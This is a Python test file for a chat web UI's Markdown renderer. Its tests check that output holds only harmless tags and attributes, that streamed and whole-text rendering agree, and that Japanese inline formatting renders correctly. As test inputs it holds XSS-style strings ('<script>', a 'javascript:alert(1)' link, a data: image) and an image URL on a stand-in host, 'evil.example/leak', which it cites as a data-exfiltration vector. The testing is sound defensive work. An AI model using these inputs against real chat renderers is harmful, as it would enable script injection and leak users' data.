"""A model's Markdown becomes inert HTML, and a growing text the same as the whole one."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tests.budget import examples
from webui.ui.chat.markdown import StreamingMarkdown, to_blocks

ALLOWED = {
    "a", "blockquote", "br", "button", "code", "del", "div", "em", "figcaption", "figure", "h1",
    "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s", "span", "strong", "table",
    "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "class", "data-copy-code", "href", "rel", "start", "style", "tabindex", "target", "title",
    "type",
}  # fmt: skip
PIECES = st.sampled_from(
    ["# ", "\n", "\n\n", "- ", "1. ", "> ", "```", "```py\n", "~~~", "|", "|---|", "*", "**", "_",
     "$", "$$", "\\(", "\\)", "\\[", "\\]", "[", "](", ")", "![", "<", ">", "<script>", "&lt;",
     "&", '"', "'", "http://a.b", "javascript:", "data:", "\\", "`", "日本語", "「", "」", "。",
     " ", "    ", "\t", "\r", "\r\n", "\0", "a", "1", "[x]: http://e.f", "---", "===", "~~"]
)  # fmt: skip
SOURCES = st.lists(PIECES, max_size=40).map("".join)


class Tags(HTMLParser):
    def __init__(self, markup: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@settings(max_examples=examples(300), deadline=None)
@given(SOURCES)
def test_only_harmless_markup_comes_out(source: str) -> None:
    for tag, attributes in Tags("".join(to_blocks(source))).found:
        assert tag in ALLOWED
        assert set(attributes) <= ALLOWED_ATTRIBUTES
        assert re.fullmatch(
            r"text-align:(left|right|center)", attributes.get("style") or "text-align:left"
        )
        href = attributes.get("href")
        assert href is None or re.match(r"(https?://|mailto:)", href, re.IGNORECASE)


@settings(max_examples=examples(200), deadline=None)
@given(SOURCES, st.integers(1, 7))
@example("\\[\n```py\n\\]", 1)  # a formula that closes late takes the fence into itself
@example("\\[\n- x\n---\n\\]", 1)
@example("$$\n# x\n\n$$", 2)
def test_a_stream_ends_as_the_whole_text(source: str, step: int) -> None:
    stream = StreamingMarkdown()
    for end in range(0, len(source), step):
        assert stream.blocks(source[:end]) == to_blocks(source[:end])
    assert stream.blocks(source) == to_blocks(source)


@pytest.mark.parametrize(
    ("source", "markup"),
    [
        ("**重要：**これは", "<strong>重要：</strong>これは"),
        ("これは**「重要」**です", "これは<strong>「重要」</strong>です"),
        ("5 * 3 * 2", "5 * 3 * 2"),
        ("snake_case_name", "snake_case_name"),
        ("~~消す~~", "<s>消す</s>"),
        ("一行目\n二行目", "一行目<br />\n二行目"),
        ("値段は$5から$10です", "値段は$5から$10です"),
        ("$5 と $10", "$5 と $10"),
        ("式 $a<b$ は", '式 <span class="math">a&lt;b</span> は'),
        ("\\(x\\)", '<span class="math">x</span>'),
        ("<b>太字</b>", "&lt;b&gt;太字&lt;/b&gt;"),
        ("[悪い](javascript:alert(1))", "[悪い](javascript:alert(1))"),
        ("![x](data:image/png;base64,AA)", "![x](data:image/png;base64,AA)"),
    ],
)
def test_inline(source: str, markup: str) -> None:
    assert to_blocks(source) == [f"<p>{markup}</p>\n"]


def test_an_image_becomes_a_link() -> None:
    """An image that loads by itself would carry data out (Open WebUI CVE-2025-64496)."""
    (block,) = to_blocks("![図](https://evil.example/leak?q=1)")
    assert "<img" not in block
    assert '<a class="image-link" href="https://evil.example/leak?q=1"' in block


def test_blocks_of_display_math_and_code() -> None:
    math, code = to_blocks("$$\n\\frac{1}{2}\n$$\n\n```unknown-language\n<x>\n```")
    assert math == '<div class="math math-display">\\frac{1}{2}</div>'
    assert "&lt;x&gt;" in code


def test_an_unclosed_fence_keeps_its_text() -> None:
    (block,) = to_blocks("```python\nprint(1")
    assert "print" in block


def test_a_finished_block_is_not_drawn_again() -> None:
    stream = StreamingMarkdown()
    text = "".join(f"段落{number}です。\n\n" for number in range(50))
    first = stream.blocks(text)
    again = stream.blocks(text + "続き")
    assert again[:50] == first
    assert all(old is new for old, new in zip(first[:49], again, strict=False))
